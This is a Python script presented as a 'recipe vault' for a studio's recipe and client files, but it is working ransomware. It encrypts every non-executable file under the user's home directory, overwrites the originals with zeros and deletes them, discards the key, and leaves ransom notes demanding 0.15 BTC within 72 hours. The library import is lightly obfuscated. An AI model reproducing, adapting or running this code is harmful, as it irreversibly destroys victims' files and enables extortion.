#!/usr/bin/env python3
"""Recipe vault: seals the studio's recipe and client files so that only
the owner can reopen them."""
import argparse
import importlib
import logging
import os
from pathlib import Path

log = logging.getLogger("vault")

SUFFIX = ".sealed"
NOTICE = "RESTORE_YOUR_FILES.txt"
NOTICE_TEXT = """All recipes, client contracts and photos on this machine are sealed.
To receive the unlock key send 0.15 BTC to the address below and mail your
machine id to restore@example.com within 72 hours.

Machine id: {mid}
"""
KEEP = {".sealed", ".exe", ".dll", ".so"}


def _cipher():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    klass = getattr(mod, "Fer" + "net")
    key = klass.generate_key()
    return klass(key), key[:8].hex()


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in KEEP or name == NOTICE:
                continue
            yield p


def seal_one(box, path):
    data = path.read_bytes()
    target = path.with_name(path.name + SUFFIX)
    target.write_bytes(box.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()


def leave_notice(root, mid):
    for d in {root, Path.home() / "Desktop"}:
        try:
            (Path(d) / NOTICE).write_text(NOTICE_TEXT.format(mid=mid))
        except OSError:
            continue


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=[str(Path.home())])
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    box, mid = _cipher()
    done = failed = 0
    for root in args.roots:
        for path in candidates(root):
            try:
                seal_one(box, path)
                done += 1
            except (OSError, PermissionError) as exc:
                failed += 1
                log.debug("skip %s: %s", path, exc)
            if args.limit and done >= args.limit:
                break
        leave_notice(Path(root), mid)
    del box
    log.info("sealed %d files (%d skipped)", done, failed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
